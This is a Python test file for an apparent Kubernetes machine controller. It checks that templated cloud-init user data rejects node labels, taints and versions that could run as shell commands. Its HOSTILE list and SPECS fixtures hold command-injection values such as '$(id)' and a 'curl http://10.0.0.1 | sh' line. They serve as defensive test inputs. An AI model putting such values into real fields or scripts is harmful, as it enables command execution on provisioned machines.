"""What is filled into user data can be no command, whatever language it stands in: what could be is refused."""

from __future__ import annotations

import base64
import json
import shlex
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from api.noderules import kubelet_may_set, registration
from controllers.machine.host_spec import desired_host
from providers.base.contract import HostIdentity, HostRequest, NodeRegistration, Taint, Versions
from providers.base.errors import ErrorClass, ProviderError
from providers.openstack.requests import user_data_of
from tests.builders import machine
from tests.controllers.machine.arena import Arena

HOSTILE = [
    "x; curl http://10.0.0.1 | sh #",
    "$(id)",
    "`id`",
    "a\nb",
    'a"b',
    "a'b",
    "a b",
    "a\\b",
    "%n",
    "${x}",
    "-x",
    "\x00",
]
NAMES = ["MACHINE_NAME", "CLUSTER_NAME", "KUBELET_VERSION", "CONTAINER_RUNTIME", "NODE_LABELS", "NODE_TAINTS"]


def _request(text: str) -> HostRequest:
    node = NodeRegistration(labels={text: text}, annotations={}, taints=(Taint(text, "NoSchedule", text),))
    return HostRequest(HostIdentity("uid", "test", text, text), {}, "hash", Versions(text, text, text), node)


def _filled(text: str, request: HostRequest) -> str:
    return base64.b64decode(user_data_of(text.encode(), request)).decode()


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_script_could_obey_is_refused(name: str, text: str) -> None:
    with pytest.raises(ProviderError, match="user data") as refused:
        _filled(f"#!/bin/sh\necho $({name})\n", _request(text))
    assert refused.value.error_class is ErrorClass.INVALID_CONFIGURATION


@given(st.text(), st.sampled_from(NAMES))
def test_what_is_filled_in_stands_for_itself_in_every_language(text: str, name: str) -> None:
    try:
        value = _filled(f"$({name})", _request(text))
    except ProviderError:
        return
    assert shlex.split(f"echo {value}")[1:] == ([value] if value else [])
    assert shlex.split(f'echo "{value}"') == ["echo", value]
    assert json.loads(f'"{value}"') == value
    assert yaml.safe_load(f"a: '{value}'") == {"a": value}
    assert "%" not in value


def test_labels_that_no_kubelet_may_set_are_left_to_the_controller() -> None:
    labels = {
        "pool": "a", "node-role.kubernetes.io/worker": "", "node-restriction.kubernetes.io/x": "y",
        "node.kubernetes.io/x": "y", "topology.kubernetes.io/zone": "z",
    }  # fmt: skip
    node = NodeRegistration(labels=labels, annotations={}, taints=())
    request = HostRequest(HostIdentity("uid", "test", "m"), {}, "hash", Versions("1.34.0"), node)
    found = _filled("$(NODE_LABELS)", request).split(",")
    assert found == [
        "machine-controller/owned-by=uid",
        "node.kubernetes.io/x=y",
        "pool=a",
        "topology.kubernetes.io/zone=z",
    ]
    assert not kubelet_may_set("k8s.io/x")


SPECS: dict[str, dict[str, Any]] = {
    "versions.containerRuntime.name": {"versions": {"kubelet": "1.34.0", "containerRuntime": {"name": HOSTILE[0]}}},
    "versions.containerRuntime.version": {
        "versions": {"kubelet": "1.34.0", "containerRuntime": {"name": "containerd", "version": "1\n"}}
    },
    "versions.kubelet": {"versions": {"kubelet": "1.34.0-$(id)"}},
    "versions.controlPlane": {"versions": {"kubelet": "1.34.0", "controlPlane": "1.34.0;id"}},
    "metadata.labels[b c;$(id)]": {"metadata": {"labels": {"b c;$(id)": "x"}}},
    "metadata.annotations[$(id)]": {"metadata": {"annotations": {"$(id)": "x"}}},
    "taints[0].key": {"taints": [{"key": "$(id)", "effect": "NoSchedule"}]},
    "taints[0].value": {"taints": [{"key": "a", "value": "$(id)", "effect": "NoSchedule"}]},
    "taints[0].effect": {"taints": [{"key": "a", "effect": "$(id)"}]},
}


@pytest.mark.parametrize("path", SPECS)
def test_the_controller_makes_no_host_that_could_not_register(path: str) -> None:
    obj = machine("m-1").build()
    obj["spec"] = {**obj["spec"], **SPECS[path]}
    desired = desired_host(obj, Arena().view)
    assert desired.request is None
    assert [problem.path for problem in desired.problems] == [path]
    assert [fault.path for fault in registration(obj["spec"], "spec")] == [f"spec.{path}"]
